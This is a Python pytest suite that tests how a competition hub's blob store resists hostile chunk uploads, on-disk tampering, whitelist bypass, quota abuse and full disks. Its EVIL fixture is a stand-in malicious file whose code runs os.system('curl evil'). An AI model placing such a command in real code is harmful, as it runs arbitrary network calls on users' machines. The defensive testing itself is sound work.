"""What a hostile participant (or a failing disk) can do to the bytes the hub stores.

Every test talks to a real hub over loopback HTTP. An attacker holds a signed chunk URL
for hours, so they can send a chunk again at any time, hold its body open, or send two
at once; none of that may change a stored blob, another project's submission, or the
requirements the whitelist checked.
"""

from __future__ import annotations

import errno
import fcntl
import hashlib
import http.client
import os
import shutil
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import requests

from crunch_cli.errors import BlobIntegrityError, InsufficientStorageError
from crunch_cli.hub import organizer
from crunch_cli.hub.blobs import BlobStore, content_key, upload_key, upload_lock_key
from crunch_cli.hub.janitor import Janitor
from crunch_cli.hub.models import utcnow
from crunch_cli.hub.server import serve_in_thread
from crunch_cli.hub.store import HubStore
from crunch_cli.hub.uploads import WRITE_BATCH

MAIN = b"def train():\n    pass\n\n\ndef infer():\n    pass\n"
EVIL = b"import os\nos.system('curl evil')\n".ljust(len(MAIN), b"#")


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


class HeldPut:
    """A chunk PUT whose body is sent in two parts: the hub is writing it in between."""

    def __init__(self, url: str, body: bytes, first_part: int) -> None:
        parts = urlsplit(url)
        self.connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
        self.connection.putrequest("PUT", f"{parts.path}?{parts.query}")
        self.connection.putheader("Content-Type", "application/octet-stream")
        self.connection.putheader("Content-Length", str(len(body)))
        self.connection.endheaders(body[:first_part])
        self.rest = body[first_part:]

    def finish(self) -> tuple[int, str | None]:
        """Send the rest of the body: (status, ETag) of the hub's answer."""
        self.connection.send(self.rest)
        response = self.connection.getresponse()
        response.read()
        self.connection.close()
        return response.status, response.getheader("ETag")


def chunk_url(caller, upload_id: str, number: int = 1) -> str:
    return caller.call("GET", f"/v1/uploads/{upload_id}/chunks/{number}/request").json()["url"]


def wait_until_a_put_is_writing(hub, upload_id: str) -> None:
    """Until a chunk PUT holds the upload's lock (an exclusive try fails)."""
    path = hub.settings.blobs_dir / upload_lock_key(upload_id)
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        if path.exists():
            fd = os.open(path, os.O_RDONLY)
            try:
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except BlockingIOError:
                return
            finally:
                os.close(fd)
        time.sleep(0.01)
    raise AssertionError("the hub never started writing the held chunk")


def complete(caller, upload_id: str) -> requests.Response:
    return caller.call("POST", f"/v1/uploads/{upload_id}/complete", json={})


def confirm(caller, upload_id: str, etag: str, number: int = 1) -> requests.Response:
    return caller.call(
        "POST", f"/v1/uploads/{upload_id}/chunks/{number}/confirm", json={"hash": etag}
    )


def cloned(caller, path: str = "main.py") -> bytes:
    links = caller.call("GET", caller.project_path(4) + "/clone").json()
    return requests.get(links[path]).content


def every_blob_is_named_by_its_sha256(hub) -> bool:
    folder = hub.settings.blobs_dir / "sha256"
    return all(sha256(path.read_bytes()) == path.name for path in folder.glob("*/*"))


def test_a_chunk_put_held_open_past_complete_cannot_change_another_projects_submission(
    hub, caller, caller_for
):
    victim = caller_for("bob", "beta")
    assert victim.submit({"main.py": MAIN}).status_code == 200
    upload = caller.start_upload("main.py", len(MAIN))
    caller.send_chunk(upload, upload["chunks"][0], MAIN)
    late = HeldPut(chunk_url(caller, upload["id"]), EVIL, first_part=10)
    wait_until_a_put_is_writing(hub, upload["id"])

    with serve_in_thread(hub.settings) as other:  # another hub process on the same root
        refused = requests.post(
            f"{other.url}/v1/uploads/{upload['id']}/complete", headers=caller.headers, json={}
        )
    late_status, late_etag = late.finish()
    unconfirmed = complete(caller, upload["id"])

    assert (refused.status_code, refused.json()["code"]) == (409, "UPLOAD_CHUNK_IN_FLIGHT")
    # The late bytes landed while the upload was still open: they are its new, unconfirmed
    # content, and can only ever be adopted under their own sha256.
    assert (late_status, late_etag) == (200, f'"{sha256(EVIL)}"')
    assert (unconfirmed.status_code, unconfirmed.json()["code"]) == (400, "UPLOAD_INCOMPLETE")
    assert cloned(victim) == MAIN
    assert (hub.settings.blobs_dir / content_key(sha256(MAIN))).read_bytes() == MAIN


def test_a_chunk_put_after_complete_is_refused_and_the_blob_keeps_its_bytes(
    hub, caller, caller_for
):
    victim = caller_for("bob", "beta")
    assert victim.submit({"main.py": MAIN}).status_code == 200
    upload = caller.start_upload("main.py", len(MAIN))
    caller.send_chunk(upload, upload["chunks"][0], MAIN)
    url = chunk_url(caller, upload["id"])
    done = complete(caller, upload["id"])

    late = requests.put(url, data=EVIL)
    submitted = caller.call(
        "POST",
        caller.project_path(4) + "/submissions",
        json={"codeFiles": {"main.py": done.json()["id"]}},
    )

    assert done.json()["status"] == "SUCCEEDED"
    assert (late.status_code, late.json()["code"]) == (409, "UPLOAD_NOT_IN_PROGRESS")
    assert submitted.status_code == 200, submitted.text
    assert cloned(caller) == MAIN
    assert cloned(victim) == MAIN
    blob = hub.settings.blobs_dir / content_key(sha256(MAIN))
    assert blob.stat().st_mode & 0o777 == 0o444
    assert blob.stat().st_nlink == 1
    assert not (hub.settings.blobs_dir / upload_key(upload["id"])).exists()


def test_two_concurrent_puts_of_one_chunk_cannot_give_a_blob_that_is_not_its_sha256(hub, caller):
    size = 2 * WRITE_BATCH
    mine, theirs = os.urandom(size), os.urandom(size)
    upload = caller.start_upload("model.bin", size, chunk_size=size)
    url = chunk_url(caller, upload["id"])
    first = HeldPut(url, mine, first_part=WRITE_BATCH + 1024)
    stored = hub.settings.blobs_dir / upload_key(upload["id"])
    deadline = time.monotonic() + 10
    while not (stored.exists() and stored.stat().st_size >= WRITE_BATCH):
        assert time.monotonic() < deadline, "the hub never wrote the first part"
        time.sleep(0.01)

    second = requests.put(url, data=theirs)  # whole, between the two parts of the first
    first_status, first_etag = first.finish()
    confirmed = confirm(caller, upload["id"], first_etag)
    mixed = complete(caller, upload["id"])

    assert second.status_code == first_status == 200
    assert confirmed.status_code == 200  # the hash the hub reported last...
    # ...is not what the file holds: half of one PUT, half of the other.
    assert (mixed.status_code, mixed.json()["code"]) == (409, "UPLOAD_CHUNK_CORRUPTED")
    assert mixed.json()["chunkNumbers"] == [1]
    assert not (hub.settings.blobs_dir / content_key(sha256(mine))).exists()
    assert every_blob_is_named_by_its_sha256(hub)
    caller.send_chunk(upload, upload["chunks"][0], mine)
    assert complete(caller, upload["id"]).json()["sha256"] == sha256(mine)
    assert (hub.settings.blobs_dir / content_key(sha256(mine))).read_bytes() == mine


def test_a_requirements_file_swapped_by_a_late_write_cannot_pass_the_whitelist(hub, caller):
    allowed, forbidden = b"pandas\n", b"evilpk\n"
    main_upload = caller.upload("main.py", MAIN)
    upload = caller.start_upload("requirements.txt", len(allowed))
    caller.send_chunk(upload, upload["chunks"][0], allowed)
    late = HeldPut(chunk_url(caller, upload["id"]), forbidden, first_part=3)
    wait_until_a_put_is_writing(hub, upload["id"])

    refused = complete(caller, upload["id"])
    _status, etag = late.finish()
    assert confirm(caller, upload["id"], etag).status_code == 200
    done = complete(caller, upload["id"])
    submitted = caller.call(
        "POST",
        caller.project_path(4) + "/submissions",
        json={"codeFiles": {"main.py": main_upload, "requirements.txt": upload["id"]}},
    )

    assert refused.json()["code"] == "UPLOAD_CHUNK_IN_FLIGHT"
    assert done.json()["sha256"] == sha256(forbidden)  # what was adopted is what was checked
    assert submitted.status_code == 400
    assert submitted.json()["code"] == "FORBIDDEN_LIBRARY"
    assert submitted.json()["requirements"] == [{"name": "evilpk", "language": "PYTHON"}]


def test_a_blob_tampered_on_disk_is_caught_by_verified_reads(hub, caller, tmp_path):
    requirements = b"pandas\n"
    assert caller.submit({"main.py": MAIN, "requirements.txt": requirements}).status_code == 200
    store = BlobStore(hub.settings.blobs_dir)
    key = content_key(sha256(MAIN))
    tampered = bytearray(store.path(key).read_bytes())
    tampered[0] ^= 0xFF
    store.path(key).write_bytes(bytes(tampered))  # as root would, whatever the mode
    target = tmp_path / "main.py"

    with pytest.raises(BlobIntegrityError, match=key):
        store.copy_verified(key, sha256(MAIN), target)
    assert not target.exists()  # no partial copy left for anyone to run
    with pytest.raises(BlobIntegrityError, match=key):
        store.read_verified(key, sha256(MAIN), 1 << 20)
    with pytest.raises(BlobIntegrityError, match="more than"):
        store.read_verified(key, sha256(MAIN), len(MAIN) - 1)
    with pytest.raises(BlobIntegrityError, match="missing"):
        store.read_verified(content_key("0" * 64), "0" * 64, 100)
    store.copy_verified(content_key(sha256(requirements)), sha256(requirements), target)
    assert target.read_bytes() == requirements
    assert store.read_verified(content_key(sha256(requirements)), sha256(requirements), 100) == (
        requirements
    )


def test_a_blob_tampered_on_disk_fails_checkout_and_setup_and_writes_nothing(
    hub, caller, crunch, tmp_path
):
    assert caller.submit({"main.py": MAIN, "requirements.txt": b"pandas\n"}).status_code == 200
    blob = hub.settings.blobs_dir / content_key(sha256(MAIN))
    blob.write_bytes(EVIL)  # same size: only the sha256 can tell
    token = hub.mint_token(caller.competition, "alice", caller.project)

    setup = crunch(
        "--api-base-url", hub.url, "setup", caller.competition, caller.project, "ws",
        "--token", token, "--no-data",
    )  # fmt: skip
    os.chdir(tmp_path / "ws")
    checkout = crunch("submission", "checkout", "1")

    for result in (setup, checkout):
        assert result.exit_code == 1
        lines = result.stderr.strip().splitlines()
        assert lines[-2].startswith("error: submission #1: main.py arrived corrupted"), lines
        assert lines[-1].startswith("hint: ")
        assert "Traceback" not in result.output
    assert not (tmp_path / "ws" / "main.py").exists()
    assert not (tmp_path / "ws" / "requirements.txt").exists()


def test_concurrent_pushes_respect_the_daily_limit_exactly_with_consecutive_numbers(
    hub, caller, caller_for
):
    hub.set_limits(caller.competition, submissions_per_day=3)
    projects = [caller, caller_for("alice", "beta")]  # the limit is the user's, not a project's
    pushes = [(project, project.upload("main.py", MAIN)) for project in projects]
    start = threading.Barrier(12)
    answers: list[tuple[str, requests.Response]] = []

    def push(project, upload_id: str) -> None:
        start.wait()
        response = project.call(
            "POST",
            project.project_path(4) + "/submissions",
            json={"codeFiles": {"main.py": upload_id}},
        )
        answers.append((project.project, response))

    threads = [threading.Thread(target=push, args=pushes[n % 2]) for n in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    codes = sorted(response.status_code for _project, response in answers)
    assert codes == [200] * 3 + [429] * 9
    for project in projects:
        numbers = sorted(
            response.json()["number"]
            for name, response in answers
            if name == project.project and response.status_code == 200
        )
        listed = project.call("GET", project.project_path(3) + "/submissions").json()
        assert numbers == list(range(1, len(numbers) + 1))
        assert sorted(item["number"] for item in listed) == numbers


def test_uploads_past_the_project_quota_are_refused_until_some_are_used_or_deleted(hub, caller):
    hub.set_limits(caller.competition, max_code_size=1000, max_model_size=1000)  # quota 4000
    open_uploads = [caller.start_upload(f"part{n}.bin", 1000)["id"] for n in range(3)]
    main = MAIN + b"#" * (1000 - len(MAIN))
    submitted = caller.submit({"main.py": main})  # a used upload no longer counts
    fourth = caller.call("POST", "/v1/uploads", json={"name": "d.bin", "size": 1000})

    over = caller.call("POST", "/v1/uploads", json={"name": "e.bin", "size": 1})
    too_big = caller.call("POST", "/v1/uploads", json={"name": "f.bin", "size": 1001})
    caller.call("DELETE", f"/v1/uploads/{open_uploads[0]}")
    after_delete = caller.call("POST", "/v1/uploads", json={"name": "e.bin", "size": 1})

    assert submitted.status_code == 200, submitted.text
    assert fourth.status_code == 200, fourth.text
    assert over.status_code == 413
    assert {key: over.json()[key] for key in ("code", "size", "usedSize", "maximumSize")} == {
        "code": "UPLOAD_QUOTA_EXCEEDED", "size": 1, "usedSize": 4000, "maximumSize": 4000,
    }  # fmt: skip
    assert (too_big.status_code, too_big.json()["code"]) == (413, "UPLOAD_TOO_BIG")
    assert too_big.json()["maximumSize"] == 1000
    assert after_delete.status_code == 200, after_delete.text


def test_an_organizer_sets_the_upload_quota(hub, new_caller):
    with serve_in_thread(replace(hub.settings, upload_quota=1500)) as server:
        alice = new_caller(replace(hub, url=server.url))
        first = alice.call("POST", "/v1/uploads", json={"name": "a.bin", "size": 1000})
        second = alice.call("POST", "/v1/uploads", json={"name": "b.bin", "size": 1000})

    assert first.status_code == 200
    assert (second.status_code, second.json()["code"]) == (413, "UPLOAD_QUOTA_EXCEEDED")
    assert second.json()["maximumSize"] == 1500


@pytest.fixture
def small_disk(hub_root: Path) -> Iterator[Path]:
    """The hub's blob folder on a 4 MiB tmpfs of its own (the database stays off it)."""
    if os.geteuid() != 0:
        pytest.skip("mounting a small tmpfs needs root (CI runs the tests as root)")
    blobs = hub_root / "blobs"
    before = hub_root / "blobs-before"
    blobs.rename(before)
    blobs.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(blobs)],
        capture_output=True,
        text=True,
    )
    if mounted.returncode != 0:
        blobs.rmdir()
        before.rename(blobs)
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.strip()}")
    try:
        shutil.copytree(before, blobs, dirs_exist_ok=True)
        yield blobs
    finally:
        if subprocess.run(["umount", str(blobs)], capture_output=True).returncode != 0:
            subprocess.run(["umount", "-l", str(blobs)], check=True)


def fill(folder: Path) -> Path:
    filler = folder / "filler"
    fd = os.open(filler, os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        while True:
            os.write(fd, b"\0" * 65536)
    except OSError as error:
        assert error.errno == errno.ENOSPC
    finally:
        os.close(fd)
    return filler


def content_blobs(blobs: Path) -> set[str]:
    return {path.name for path in (blobs / "sha256").glob("*/*")}


def test_a_full_disk_answers_507_and_the_same_push_succeeds_once_space_is_freed(
    small_disk, restartable_hub, new_caller, demo_data
):
    model = os.urandom(256 * 1024)
    competition = {**demo_data["stream"].kwargs, "name": "on-a-full-disk"}
    with restartable_hub() as hub:
        alice = new_caller(hub)
        pending = [
            (alice.start_upload("main.py", len(MAIN)), MAIN),
            (alice.start_upload("model.bin", len(model)), model),
        ]
        filler = fill(small_disk)
        before = content_blobs(small_disk)

        refused = [alice.put_chunk(upload["id"], 1, content) for upload, content in pending]
        with pytest.raises(InsufficientStorageError, match="no space left"):
            organizer.create_competition(hub.settings, **competition)
        left = {path.name for path in small_disk.iterdir() if path.name.startswith(".")}
        after = content_blobs(small_disk)
        filler.unlink()
        for upload, content in pending:
            alice.send_chunk(upload, upload["chunks"][0], content)
            assert complete(alice, upload["id"]).json()["status"] == "SUCCEEDED"
        pushed = alice.call(
            "POST",
            alice.project_path(4) + "/submissions",
            json={
                "codeFiles": {"main.py": pending[0][0]["id"]},
                "modelFiles": {"model.bin": pending[1][0]["id"]},
            },
        )
        restored = cloned(alice, "resources/model.bin")
        registered = organizer.create_competition(hub.settings, **competition)

    for response in refused:
        assert response.status_code == 507
        assert response.json()["code"] == "INSUFFICIENT_STORAGE"
    assert after == before  # no half-written blob
    assert left <= {".gc.lock"}  # no temporary file either
    assert pushed.status_code == 200, pushed.text
    assert restored == model
    assert registered.name == "on-a-full-disk"


def test_the_janitor_removes_expired_uploads_and_keeps_the_blobs_in_use(hub, caller):
    assert caller.submit({"main.py": MAIN}).status_code == 200
    abandoned = caller.start_upload("model.bin", 2000, chunk_size=1000)
    assert caller.put_chunk(abandoned["id"], 1, b"a" * 1000).status_code == 200
    unused_content = os.urandom(300)
    unused = caller.upload("unused.bin", unused_content)
    blobs = hub.settings.blobs_dir

    with HubStore(hub.settings) as store:
        now = Janitor(store).sweep()
        kept_while_live = (blobs / upload_key(abandoned["id"])).exists()
        later = Janitor(store).sweep(utcnow() + timedelta(days=2))

    assert now.uploads == now.blobs == 0
    assert kept_while_live
    assert (later.uploads, later.blobs) == (2, 1)
    assert not (blobs / upload_key(abandoned["id"])).exists()
    assert not (blobs / content_key(sha256(unused_content))).exists()
    for upload_id in (abandoned["id"], unused):
        assert caller.call("GET", f"/v1/uploads/{upload_id}").status_code == 404
    assert cloned(caller) == MAIN
    release = caller.call(
        "GET",
        f"/v2/competitions/{caller.competition}/rounds/@current/phases/submission/data-release",
    ).json()
    for entry in release["dataFiles"].values():
        assert sha256(requests.get(entry["url"]).content) == entry["sha256"]


def test_the_janitor_keeps_an_unreferenced_blob_through_its_grace_period(hub, caller):
    content = os.urandom(300)
    upload_id = caller.upload("dropped.bin", content)
    caller.call("DELETE", f"/v1/uploads/{upload_id}")  # nothing refers to the blob now
    blob = hub.settings.blobs_dir / content_key(sha256(content))

    with HubStore(hub.settings) as store:
        janitor = Janitor(store, grace=timedelta(hours=1))
        within = janitor.sweep(utcnow() + timedelta(minutes=59))
        kept = blob.exists()
        past = janitor.sweep(utcnow() + timedelta(minutes=61))

    assert (within.blobs, kept) == (0, True)
    assert past.blobs == 1
    assert not blob.exists()
